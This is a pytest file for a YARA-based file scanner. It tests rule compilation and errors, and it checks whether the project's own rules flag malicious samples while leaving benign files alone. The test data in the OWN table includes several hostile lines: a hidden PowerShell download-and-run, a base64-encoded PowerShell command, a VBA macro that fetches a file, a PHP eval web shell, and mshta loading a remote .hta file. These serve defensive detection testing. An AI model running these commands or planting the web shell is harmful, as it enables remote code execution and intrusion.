"""YARA rules: the operator's and our own."""

from pathlib import Path

import pytest
from made_files import a_docx, eicar, macros

from fairline.checks.files.rules import Scanner, compiled
from fairline.facts import FairlineError

RULE = 'rule {name} {{ {meta} strings: $a = "{word}" condition: $a }}\n'


def scanner(folder: Path | None = None, *, own: bool = False) -> Scanner:
    built = compiled(folder, own=own)
    assert built is not None
    return Scanner(built.rules)


def test_the_operators_rules_hold_or_refuse(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "one.yar").write_text(RULE.format(name="one", meta="", word="first"))
    (tmp_path / "sub/two.yara").write_text(
        RULE.format(name="two", meta='meta: fairline = "hold"', word="second")
    )
    (tmp_path / "notes.txt").write_text("no rule")
    built = compiled(tmp_path, own=False)
    assert built is not None
    assert built.number == 2
    assert built.version.startswith("yara: 2 rules, sha256 ")
    scan = Scanner(built.rules)
    assert scan.scan(b"the first", 5) == [("one", False)]
    assert scan.scan(b"the second", 5) == [("two", True)]
    assert scan.scan(b"neither", 5) == []


def test_rules_of_one_name_in_two_files(tmp_path: Path) -> None:
    (tmp_path / "one.yar").write_text(RULE.format(name="same", meta="", word="first"))
    (tmp_path / "two.yar").write_text(RULE.format(name="same", meta="", word="second"))
    assert len(scanner(tmp_path).scan(b"first second", 5)) == 2


def test_none_are_wanted() -> None:
    assert compiled(None, own=False) is None


def test_what_is_wrong_with_rules_is_said(tmp_path: Path) -> None:
    with pytest.raises(FairlineError, match="found no such folder"):
        compiled(tmp_path / "nowhere", own=False)
    with pytest.raises(FairlineError, match="found no rules"):
        compiled(tmp_path, own=False)
    (tmp_path / "bad.yar").write_text("rule bad { condition: nonsense }")
    with pytest.raises(FairlineError, match=r"bad\.yar: error"):
        compiled(tmp_path, own=False)
    (tmp_path / "bad.yar").write_bytes(b"\xff\xfe")
    with pytest.raises(FairlineError, match="no UTF-8"):
        compiled(tmp_path, own=False)


OWN: dict[str, tuple[bytes, tuple[str, bool]]] = {
    "the test file": (eicar(), ("eicar_test_file", False)),
    "a hidden download": (
        b"powershell.exe -NoP -W Hidden -c (New-Object Net.WebClient).DownloadString('http://x')",
        ("powershell_hidden_download", True),
    ),
    "the same in UTF-16": (
        "powershell -windowstyle hidden Invoke-WebRequest x".encode("utf-16-le"),
        ("powershell_hidden_download", True),
    ),
    "a command in base64": (b"PowerShell -enc " + b"QUJD" * 20, ("powershell_hidden_download", True)),
    "a macro that fetches": (
        b'Attribute VB_Name = "M"\nSet s = CreateObject("WScript.Shell")\nURLDownloadToFile 0, u, f',
        ("macro_that_fetches_and_runs", True),
    ),
    "a page that obeys": (b"<?php @eval($_POST['x']); ?>", ("web_shell", True)),
    "a script host": (b"mshta http://example.com/x.hta", ("script_host_from_document", True)),
}


@pytest.mark.parametrize("name", OWN)
def test_our_own_rules(name: str) -> None:
    data, expected = OWN[name]
    assert scanner(own=True).scan(data, 5) == [expected]


HONEST = [
    b'Attribute VB_Name = "M"\nSub Add()\nRange("A1") = 1\nEnd Sub',
    b"PowerShell is a shell. -window hidden is an option of it.",
    b"The EICAR test file begins with X5O!P%@AP.",
    b"use certutil to look at a certificate, and mshta never",
    a_docx(b"<w:p/>"),
    macros(b"Attribute VB_Name"),
]


@pytest.mark.parametrize("data", HONEST, ids=range(len(HONEST)))
def test_our_own_rules_leave_honest_files_alone(data: bytes) -> None:
    assert scanner(own=True).scan(data, 5) == []


def test_a_rule_that_takes_too_long_is_ended(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..10000000000) : (uint8(i % filesize) == 97) }"
    )
    with pytest.raises(TimeoutError):
        scanner(tmp_path).scan(b"a" * 1_000, 1)
